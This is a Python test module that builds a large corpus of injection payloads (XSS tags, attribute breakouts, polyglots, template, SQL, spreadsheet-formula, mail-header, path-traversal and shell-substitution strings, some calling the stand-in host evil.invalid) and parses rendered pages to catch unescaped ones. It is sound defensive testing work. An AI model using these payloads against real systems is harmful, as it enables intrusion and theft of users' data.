"""A corpus of hostile text for every free-text field: HTML and script injection and its relatives.

Every payload carries a marker of its own (`xq0001z`, `xq0002z`, ...): lower case letters and
digits only, so it survives escaping, case folding and every template filter unchanged. Whatever a
payload would run if it escaped sets `window.__xss` to its marker (and usually calls alert), so a
browser can tell which payload got through; wherever a payload would create an element, an
attribute or a URL, the marker is inside it, so a parser can tell too (see `injections_in`).

The hand-written payloads below are the base; `_variants` derives more from each (other contexts
to break out of, other spellings), and the corpus keeps every distinct text once.
"""

import re
from dataclasses import dataclass
from html.parser import HTMLParser

MARK = "MARK"  # replaced by each payload's own marker
JS = "window.__xss='MARK'"
JS_ALERT = "window.__xss='MARK';alert(1)"

# Script and elements, the classic way and in the spellings filters miss.
TAGS = [
    "<script>" + JS_ALERT + "</script>",
    "<script>alert(1)//MARK</script>",
    "<SCRIPT>" + JS + "</SCRIPT>",
    "<ScRiPt>" + JS + "</sCrIpT>",
    "<script >" + JS + "</script >",
    "<script/x>" + JS + "</script>",
    "<script\n>" + JS + "</script\n>",
    "<script src=\"data:text/javascript,window.__xss='MARK'\"></script>",
    "<script src=//evil.invalid/MARK.js></script>",
    "<scr<script>ipt>" + JS + "</scr</script>ipt>",
    "<<script>script>" + JS + "<</script>/script>",
    "<script>/*</script><script>*/" + JS + "</script>",
    '<img src=x onerror="' + JS_ALERT + '">',
    "<img src=x onerror=" + JS + ">",
    "<img/src=x/onerror=" + JS + ">",
    "<IMG SRC=x ONERROR=" + JS + ">",
    "<img src=x onerror=&#119;indow.__xss='MARK'>",
    "<img src=x onerror=\"&#x77;&#x69;ndow.__xss='MARK'\">",
    "<img src=x:MARK onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>",
    '<img src="http://evil.invalid/MARK.png">',
    "<img src=`x` onerror=`" + JS + "`>",
    "<image src=x onerror=" + JS + ">",
    "<svg onload=" + JS + ">",
    '<svg/onload="' + JS_ALERT + '">',
    "<svg><script>" + JS + "</script></svg>",
    "<svg><animate onbegin=" + JS + " attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:window.__xss='MARK'\"><text x=20 y=20>MARK</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='window.__xss=1'/></svg>#x\" data-m=MARK />",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.__xss='MARK'</script>\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=" + JS + ">",
    "<math href=\"javascript:window.__xss='MARK'\">MARK</math>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:window.__xss='MARK'\">x</maction></math>",
    "<iframe srcdoc=\"<script>parent.__xss='MARK';parent.alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:parent.__xss='MARK'\"></iframe>",
    "<iframe src=\"data:text/html,<script>parent.__xss='MARK'</script>\"></iframe>",
    "<frameset><frame src=\"javascript:parent.__xss='MARK'\"></frameset>",
    "<object data=\"javascript:window.__xss='MARK'\"></object>",
    "<embed src=\"javascript:window.__xss='MARK'\">",
    "<a href=\"javascript:window.__xss='MARK'\">Open MARK</a>",
    "<a href=\"JaVaScRiPt:window.__xss='MARK'\">Open</a>",
    "<a href=\"java&#x09;script:window.__xss='MARK'\">Open</a>",
    '<a href="https://evil.invalid/MARK">Read the new guidance</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" id=MARK>Open</a>',
    "<body onload=" + JS + ">",
    "<details open ontoggle=" + JS + ">",
    "<input autofocus onfocus=" + JS + ">",
    "<select autofocus onfocus=" + JS + "></select>",
    "<textarea autofocus onfocus=" + JS + "></textarea>",
    "<keygen autofocus onfocus=" + JS + ">",
    "<video><source onerror=" + JS + "></video>",
    "<audio src=x onerror=" + JS + ">",
    "<marquee onstart=" + JS + ">MARK</marquee>",
    "<div onpointerover=" + JS + ">MARK</div>",
    "<p style=\"background:url(javascript:window.__xss='MARK')\">MARK</p>",
    "<div style=\"width:expression(window.__xss='MARK')\">x</div>",
    "<form action=\"javascript:window.__xss='MARK'\"><button>Send MARK</button></form>",
    "<button formaction=\"javascript:window.__xss='MARK'\">Go MARK</button>",
    "<isindex action=\"javascript:window.__xss='MARK'\" type=image>",
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=\'MARK\'">',
    "<base href=\"javascript:window.__xss='MARK'//\">",
    '<link rel=stylesheet href="http://evil.invalid/MARK.css">',
    "<link rel=import href=\"data:text/html,<script>window.__xss='MARK'</script>\">",
    "<style>@import 'http://evil.invalid/MARK.css';</style>",
    "<style>body{background:url(\"javascript:window.__xss='MARK'\")}</style>",
    "<template><script>" + JS + "</script></template>",
    "<xmp><script>" + JS + "</script></xmp>",
    '<noscript><p title="</noscript><img src=x onerror=' + JS + '>">',
    '<!--<img src="--><img src=x onerror=' + JS + ">",
    "<![CDATA[<script>" + JS + "</script>]]>",
    "<?xml-stylesheet href=\"javascript:window.__xss='MARK'\"?>",
    "<form id=MARK><input name=csrfmiddlewaretoken value=MARK></form>",
    "<img name=getElementById id=MARK>",
    "<object type=text/x-scriptlet data=//evil.invalid/MARK.sct></object>",
    "<table background=\"javascript:window.__xss='MARK'\">",
    "<div id=x tabindex=1 onfocusin=" + JS + " autofocus>MARK</div>",
    "<custom-tag onclick=" + JS + ">MARK</custom-tag>",
    "<a id=MARK href=# onclick=" + JS + ">Click</a>",
]

# Breaking out of an attribute value or an element the text may land in.
BREAKOUTS = [
    '" onmouseover="' + JS + '" x="',
    "' onmouseover='window.__xss=\"MARK\"' x='",
    '" autofocus onfocus="' + JS + '" x="',
    "\" onfocus=window.__xss='MARK' autofocus \"",
    "` onmouseover=`" + JS + "`",
    '" style="animation-name:x" onanimationstart="' + JS + '" x="',
    "x onerror=" + JS + " y",
    '"><script>' + JS + "</script>",
    "'><script>" + JS + "</script>",
    '"><img src=x onerror=' + JS + ">",
    "'><img src=x onerror=" + JS + ">",
    "</textarea><script>" + JS + "</script>",
    "</title><script>" + JS + "</script>",
    "</style><script>" + JS + "</script>",
    "</script><script>" + JS + "</script>",
    "</option></select><img src=x onerror=" + JS + ">",
    "</noscript><img src=x onerror=" + JS + ">",
    "</desc></svg><img src=x onerror=" + JS + ">",
    "]]><script>" + JS + "</script>",
    "--><script>" + JS + "</script><!--",
    "';" + JS + ";//",
    '";' + JS + ";//",
    "\\';" + JS + ";//",
    "</script><svg onload=" + JS + ">",
    "'-alert(1)-'MARK",
    '"-alert(1)-"MARK',
    "${" + JS + "}",
    "`${" + JS + "}`",
]

# Not HTML at all, but dangerous where the text goes next: template engines, URLs, spreadsheets,
# mail headers, databases, PDF writers.
OTHER = [
    "{{ 7*7 }} MARK",
    "{{7*7}}MARK",
    "{% debug %} MARK",
    "{% load static %}{% static 'x' %} MARK",
    "{{ request.user.password }} MARK",
    "{{ settings.SECRET_KEY }} MARK",
    "{% include 'base.html' %} MARK",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} MARK",
    "{# a comment #} MARK",
    "${7*7} MARK",
    "#{7*7} MARK",
    "<%= 7*7 %> MARK",
    "{{constructor.constructor('window.__xss=\"MARK\"')()}}",
    "{family_name} {recipient} {organisation} MARK",
    "javascript:" + JS,
    "JaVaScRiPt:" + JS,
    "java\tscript:" + JS,
    "javascript&colon;" + JS,
    "&#106;avascript:" + JS,
    "vbscript:msgbox('MARK')",
    "data:text/html,<script>" + JS + "</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== MARK",
    "//evil.invalid/MARK",
    "https://evil.invalid/MARK?next=/cases/",
    "=cmd|' /C calc'!A0 MARK",
    '=HYPERLINK("https://evil.invalid/MARK","Click for details")',
    "=1+1 MARK",
    "+1+1 MARK",
    "-1+2 MARK",
    "@SUM(1+1) MARK",
    "\t=1+1 MARK",
    "\r=1+1 MARK",
    '=IMPORTXML(CONCAT("https://evil.invalid/MARK?",A1),"//a")',
    '=DDE("cmd";"/C calc";"MARK")',
    "Smith family\r\nBcc: evil@example.invalid MARK",
    "Smith family\nX-Injected: MARK",
    "Name%0d%0aBcc:evil@example.invalid MARK",
    "'; DROP TABLE cases_case; -- MARK",
    "1' OR '1'='1' -- MARK",
    '" OR ""=" MARK',
    "../../../../etc/passwd MARK",
    "..\\..\\windows\\win.ini MARK",
    "%00 MARK %2e%2e%2f",
    "() { :; }; echo MARK",
    "$(touch /tmp/MARK) `id`",
    "/JavaScript << /JS (app.alert('MARK')) >>",
    "/URI (javascript:app.alert('MARK')) /S /URI",
    "%PDF-1.7 MARK %%EOF",
    ") Tj /F1 99 Tf (MARK",
    "\\) Tj ET BT (MARK",
    "@page { @top-center { content: 'MARK' } }",
    "url(http://evil.invalid/MARK.png)",
    "[Open](javascript:window.__xss='MARK')",
    "![x](https://evil.invalid/MARK.png)",
    "**MARK** _emphasis_ <b>bold</b>",
    "&lt;script&gt;" + JS + "&lt;/script&gt;",
    "&#60;script&#62;" + JS + "&#60;/script&#62;",
    "&#x3C;script&#x3E;" + JS + "&#x3C;/script&#x3E;",
    "%3Cscript%3E" + JS + "%3C/script%3E",
    "\\u003cscript\\u003e" + JS + "\\u003c/script\\u003e",
    "\\x3cscript\\x3e" + JS + "\\x3c/script\\x3e",
    "&amp;lt;script&amp;gt;MARK",
    "＜script＞" + JS + "＜/script＞",
    "﹤script﹥" + JS + "﹤/script﹥",
    "\u003cscript\u003e" + JS + "\u003c/script\u003e",
    "\u202egnp.MARK.exe",
    "MARK\u200b<\u200bscript>" + JS + "</script>",
    "\ufeffMARK<script>" + JS + "</script>",
    "Zoë Ødegård-Łukasiewicz MARK",
    "محمد علي MARK",
    "陈小明 MARK",
    "👨‍👩‍👧‍👦 family MARK 🏠",
    "Z̸̢͓a̵l̶g̴o̷ MARK",
    "MARK\x01\x02\x03\x07\x08",
    "MARK\x0b\x0c\x1b[31mred\x1b[0m",
    "MARK\x1c\x1d\x1e\x1f\x7f",
    "MARK\u0085\u2028\u2029 line separators",
    "first line MARK\r\nsecond line\rthird line\n<script>" + JS + "</script>",
    "   MARK   leading and trailing spaces   ",
    "MARK " + "A" * 4000,
    "MARK " + "<script>" * 300,
    "MARK " + "&" * 500 + "<" * 500 + ">" * 500 + '"' * 500 + "'" * 500,
    "MARK " + "{{ " * 300,
    "MARK " + "\u00e9\u0301" * 400,
]

# Polyglots: one string that breaks out of many contexts at once.
POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__xss='MARK' )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__xss='MARK'//>\\x3e",
    "'\"--></style></script><script>" + JS + "</script>",
    "\"'><img src=x onerror=" + JS + "><svg onload=" + JS + ">{{7*7}}${7*7}",
    "'\"`><script>/* *\\/" + JS + "// */</script>",
    "--></script></title></textarea></style><img src=x onerror=" + JS + ">",
    '";' + JS + ";//';" + JS + ";//--></SCRIPT>\">'><SCRIPT>" + JS + "</SCRIPT>",
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+" + JS + "//'>",
    "javascript://'/</title></style></textarea></script>--><p\" onclick=" + JS + "//>*/alert()/*",
    '<a href="javas&#99;ript:' + JS + '">x</a><img src=x onerror=' + JS + ">{{7*7}}",
]


def _variants(template: str) -> list[str]:
    """The same attack in other clothes: other cases, other separators, other contexts."""
    out = [template]
    if template.startswith("<"):
        out += [
            "\"'>" + template,  # from inside a quoted attribute
            "Notes from the visit: " + template.replace(" ", "\n"),  # newlines separate attributes too
        ]
        if template != template.upper():
            out.append(template.upper().replace(MARK.upper(), MARK).replace("WINDOW.__XSS", "window.__xss"))
    return out


@dataclass(frozen=True)
class Payload:
    number: int
    marker: str
    text: str

    @property
    def core(self) -> str:
        """The dangerous part: from the start up to the marker, which must never appear unescaped."""
        return self.text[: self.text.index(self.marker) + len(self.marker)]

    @property
    def is_markup(self) -> bool:
        """Whether escaping must change it: it holds a character HTML escaping rewrites."""
        return any(c in self.core for c in "<>\"'")

    def fits(self, max_length: int | None) -> bool:
        return max_length is None or len(self.text) <= max_length


def marker(number: int) -> str:
    return f"xq{number:04d}z"


def _build() -> list[Payload]:
    seen: dict[str, None] = {}
    for template in TAGS + BREAKOUTS + OTHER + POLYGLOTS:
        assert MARK in template, f"A payload without a marker cannot be traced: {template!r}"
        for variant in _variants(template):
            if MARK in variant:
                seen.setdefault(variant, None)
    # NUL is the one character no field can hold (Django refuses it; PostgreSQL cannot store it).
    assert not any("\x00" in t for t in seen)
    return [
        Payload(number=n, marker=marker(n), text=t.replace(MARK, marker(n)))
        for n, t in enumerate(seen, start=1)
    ]


PAYLOADS: list[Payload] = _build()
BY_MARKER = {p.marker: p for p in PAYLOADS}
MARKER_RE = re.compile(r"xq\d{4}z")


# --- Finding what got through ----------------------------------------------------------------

# Attributes where the templates put user text on purpose (form values, chart names, titles).
TEXT_ATTRIBUTES = frozenset({"value", "title", "alt", "aria-label", "placeholder", "data-person"})
# Elements no page of the service uses: finding one means markup got in.
FOREIGN_ELEMENTS = frozenset(
    {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "isindex", "keygen", "xmp"}
    | {"marquee", "math", "image", "template", "plaintext", "custom-tag", "audio", "video", "source"}
)


class _Finder(HTMLParser):
    """Walks a page and records every element, attribute or script that carries a payload marker."""

    def __init__(self, *, nonces: bool):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._raw: str | None = None
        self._nonces = nonces

    def _flag(self, where: str, text: str) -> None:
        markers = MARKER_RE.findall(text) or ["?"]
        self.found.extend(f"{m}: {where}" for m in markers)

    def handle_starttag(self, tag, attrs):
        if MARKER_RE.search(tag):
            self._flag(f"element <{tag}>", tag)
        if tag in FOREIGN_ELEMENTS:
            self._flag(f"foreign element <{tag}>", " ".join(f"{n}={v}" for n, v in attrs))
        names = {name for name, _ in attrs}
        if self._nonces and tag == "script" and "nonce" not in names:
            self._flag("<script> without the page's nonce", " ".join(f"{n}={v}" for n, v in attrs))
        if tag == "meta" and "http-equiv" in names:
            self._flag("<meta http-equiv>", " ".join(f"{n}={v}" for n, v in attrs))
        for name, value in attrs:
            value = value or ""
            if MARKER_RE.search(name):
                self._flag(f"attribute name on <{tag}>: {name}", name)
            elif MARKER_RE.search(value):
                if name.startswith("on"):
                    self._flag(f"event handler <{tag} {name}>", value)
                elif name not in TEXT_ATTRIBUTES:
                    self._flag(f"attribute <{tag} {name}>", value)
        if tag in ("script", "style"):
            self._raw = tag

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self._raw = None

    def handle_endtag(self, tag):
        if tag == self._raw:
            self._raw = None

    def handle_data(self, data):
        if self._raw and MARKER_RE.search(data):
            self._flag(f"inside <{self._raw}>", data)

    def handle_comment(self, data):
        if MARKER_RE.search(data):
            self._flag("inside an HTML comment", data)

    def handle_decl(self, decl):
        if MARKER_RE.search(decl):
            self._flag("inside a declaration", decl)

    def unknown_decl(self, data):
        if MARKER_RE.search(data):
            self._flag("inside a CDATA section", data)

    def handle_pi(self, data):
        if MARKER_RE.search(data):
            self._flag("inside a processing instruction", data)


def injections_in(html: str, *, nonces: bool = True) -> list[str]:
    """Every place a payload became markup rather than text. Empty when all were escaped.

    The service's own pages carry a nonce on each script (the CSP needs it), so a script without
    one is foreign; Django's admin pages load their scripts by URL instead (`nonces=False`).
    """
    finder = _Finder(nonces=nonces)
    finder.feed(html)
    finder.close()
    found = finder.found
    # The parser sees elements; the raw text shows a payload's dangerous part kept whole.
    for m in set(MARKER_RE.findall(html)):
        payload = BY_MARKER.get(m)
        if payload is not None and payload.is_markup and payload.core in html:
            found.append(f"{m}: unescaped in the page source: {payload.core[:80]!r}")
    return found


def markers_in(text: str) -> set[str]:
    return set(MARKER_RE.findall(text))
